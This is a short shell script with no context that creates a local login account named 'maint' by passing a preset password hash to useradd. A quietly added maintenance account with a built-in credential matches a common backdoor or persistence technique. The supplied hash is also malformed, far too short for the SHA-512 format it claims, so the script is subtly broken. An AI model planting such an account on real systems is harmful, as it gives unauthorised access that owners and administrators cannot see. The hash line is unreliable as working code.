#!/bin/sh
useradd -m -s /bin/bash -p '$6$x1$Qf3m0t1Kj8b4z9lYd1Q0' maint
